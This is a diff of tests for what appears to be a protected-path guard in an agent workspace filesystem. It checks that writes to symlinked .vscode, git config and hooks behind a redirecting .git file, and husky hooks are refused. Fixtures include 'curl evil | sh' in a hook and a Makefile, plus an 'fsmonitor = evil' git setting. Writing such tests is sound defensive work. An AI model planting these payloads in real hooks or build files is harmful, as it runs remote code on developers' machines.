@@ -246,6 +246,34 @@ describe('writes, removes and protected paths', () => {
       await assert.rejects(lstat(join(root, '.git')), /ENOENT/);
     }));
 
+  it('refuses to write a protected directory that is a symlink to an ordinary one, under either name', () =>
+    withWorkspace('auto', async ({ fs, root }) => {
+      await mkdir(join(root, 'config', 'vscode'), { recursive: true });
+      await symlink('config/vscode', join(root, '.vscode'));
+      await refuses(fs.write('.vscode/tasks.json', '{}'));
+      await refuses(fs.write('config/vscode/tasks.json', '{}'));
+      await fs.write('config/other.json', '{}');
+    }));
+
+  it('refuses to write the real git config and hooks behind a .git file that points into the workspace', () =>
+    withWorkspace('auto', async ({ fs, root }) => {
+      await mkdir(join(root, '.bare', 'hooks'), { recursive: true });
+      await writeFile(join(root, '.bare', 'config'), '[core]\n\tbare = true\n');
+      await writeFile(join(root, '.git'), 'gitdir: ./.bare\n');
+      await refuses(fs.write('.bare/config', '[core]\n\tfsmonitor = evil\n'));
+      await refuses(fs.write('.bare/hooks/pre-commit', 'evil'));
+      await fs.write('.bare/description', 'fine');
+    }));
+
+  it("refuses to write the hooks directory git's core.hooksPath names (husky)", () =>
+    withWorkspace('auto', async ({ fs, root }) => {
+      await mkdir(join(root, '.git'));
+      await writeFile(join(root, '.git', 'config'), '[core]\n\trepositoryformatversion = 0\n\thooksPath = .husky\n');
+      await refuses(fs.write('.husky/pre-commit', 'curl evil | sh', { createParents: true }));
+      await refuses(fs.write('.husky', 'x'));
+      await fs.write('src/husky.txt', 'fine');
+    }));
+
   it('refuses protected paths the user added', () =>
     withWorkspace('auto', async ({ fs }) => {
       await refuses(fs.write('Makefile', 'all:\n\tcurl evil | sh'));
